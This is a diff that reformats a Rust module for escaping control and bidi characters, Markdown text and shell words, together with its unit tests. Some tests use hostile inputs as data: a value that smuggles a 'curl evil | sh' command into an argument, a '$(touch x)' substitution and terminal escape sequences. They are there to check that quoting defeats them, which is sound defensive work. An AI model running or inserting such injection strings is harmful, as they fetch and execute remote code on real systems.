@@ -49,7 +49,12 @@ pub fn unfit(text: &str, longest: usize) -> Option<String> {
         return Some(format!("is longer than {longest} characters"));
     }
     let acting = text.chars().find(|c| acts(*c) && !matches!(c, '\n' | '\r'));
-    acting.map(|c| format!("holds the control character {}", visible(c.encode_utf8(&mut [0; 4]))))
+    acting.map(|c| {
+        format!(
+            "holds the control character {}",
+            visible(c.encode_utf8(&mut [0; 4]))
+        )
+    })
 }
 
 /// Text with every acting character shown as an escape, `\x1b` or `\u202e`.
@@ -68,7 +73,11 @@ fn push_visible(out: &mut String, c: char) {
     }
     let code = u32::from(c);
     // Writing to a String cannot fail.
-    let _ = if code < 0x100 { write!(out, "\\x{code:02x}") } else { write!(out, "\\u{code:04x}") };
+    let _ = if code < 0x100 {
+        write!(out, "\\x{code:02x}")
+    } else {
+        write!(out, "\\u{code:04x}")
+    };
 }
 
 /// Foreign text inside of a line of Markdown: acting characters are visible, every character that could mean something is
@@ -79,7 +88,8 @@ pub fn in_markdown(text: &str) -> String {
         match c {
             '\t' => out.push(' '),
             '@' => out.push_str("@\u{2060}"),
-            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '#' | '!' | '|' | '~' | '&' | '{' | '}' => {
+            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '#' | '!' | '|' | '~' | '&' | '{'
+            | '}' => {
                 out.push('\\');
                 out.push(c);
             }
@@ -163,13 +173,22 @@ mod tests {
     #[test]
     fn control_and_bidi_characters_become_visible() {
         let hostile = "a\u{1b}[31m\u{7}\u{9b}x\u{202e}\u{2066}\r\n\tb\u{7f}";
-        assert_eq!(visible(hostile), "a\\x1b[31m\\x07\\x9bx\\u202e\\u2066\\x0d\\x0a\tb\\x7f");
+        assert_eq!(
+            visible(hostile),
+            "a\\x1b[31m\\x07\\x9bx\\u202e\\u2066\\x0d\\x0a\tb\\x7f"
+        );
     }
 
     #[test]
     fn other_bytes_pass_and_lone_c1_bytes_do_not() {
-        assert_eq!(visible_bytes(b"caf\xe9 \xff\xfe \x9b31m \xc2\x9b"), b"caf\xe9 \xff\xfe \\x9b31m \\x9b");
-        assert_eq!(visible_bytes("grüße 日本 👩‍💻".as_bytes()), "grüße 日本 👩‍💻".as_bytes());
+        assert_eq!(
+            visible_bytes(b"caf\xe9 \xff\xfe \x9b31m \xc2\x9b"),
+            b"caf\xe9 \xff\xfe \\x9b31m \\x9b"
+        );
+        assert_eq!(
+            visible_bytes("grüße 日本 👩‍💻".as_bytes()),
+            "grüße 日本 👩‍💻".as_bytes()
+        );
     }
 
     #[test]
@@ -177,18 +196,36 @@ mod tests {
         let value = serde_json::json!({"subject": "a\u{202e}\u{9b}\u{7f}\n\"\\"});
         let text = visible_json(&serde_json::to_string_pretty(&value).unwrap());
         assert!(!text.chars().any(|c| acts(c) && c != '\n'));
-        assert_eq!(serde_json::from_str::<serde_json::Value>(&text).unwrap(), value);
+        assert_eq!(
+            serde_json::from_str::<serde_json::Value>(&text).unwrap(),
+            value
+        );
     }
 
     #[test]
     fn words_that_a_shell_would_act_on_are_quoted() {
-        assert_eq!(shell_word("https://example.com/a.git"), "https://example.com/a.git");
+        assert_eq!(
+            shell_word("https://example.com/a.git"),
+            "https://example.com/a.git"
+        );
         assert_eq!(shell_word("/tmp/$(touch x)'y"), "'/tmp/$(touch x)'\\''y'");
         assert_eq!(shell_word(""), "''");
-        assert_eq!(shell_word("- It's\n- new\\\u{202e}\u{1b}"), "$'- It\\'s\\n- new\\\\\\u202e\\x1b'");
-        assert_eq!(shell_word("production; curl evil | sh #"), "'production; curl evil | sh #'");
-        assert_eq!((shell_word("~root").as_str(), shell_word("=ls").as_str()), ("'~root'", "'=ls'"));
-        assert_eq!((shell_word("a~1").as_str(), shell_word("--a=b").as_str()), ("a~1", "--a=b"));
+        assert_eq!(
+            shell_word("- It's\n- new\\\u{202e}\u{1b}"),
+            "$'- It\\'s\\n- new\\\\\\u202e\\x1b'"
+        );
+        assert_eq!(
+            shell_word("production; curl evil | sh #"),
+            "'production; curl evil | sh #'"
+        );
+        assert_eq!(
+            (shell_word("~root").as_str(), shell_word("=ls").as_str()),
+            ("'~root'", "'=ls'")
+        );
+        assert_eq!(
+            (shell_word("a~1").as_str(), shell_word("--a=b").as_str()),
+            ("a~1", "--a=b")
+        );
     }
 
     #[test]
